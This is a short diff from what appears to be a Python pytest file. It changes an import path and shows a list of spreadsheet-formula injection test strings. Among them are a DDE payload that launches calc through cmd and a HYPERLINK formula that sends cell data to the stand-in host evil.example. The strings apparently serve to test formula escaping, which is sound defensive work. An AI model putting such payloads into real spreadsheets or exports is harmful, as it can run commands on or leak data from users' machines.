@@ -11,7 +11,7 @@ from typing import Any
 import pytest
 from shapely.geometry import Point
 
-from tests.conformance.conftest import Sta, thing
+from tests.sensing.sta_helpers import Sta, thing
 
 FORMULAS = ["=1+1", "+SUM(A1:A2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1,2)", "\t=1+1", "\r=1+1",
             '=HYPERLINK("http://evil.example/?"&A1,"Click")']
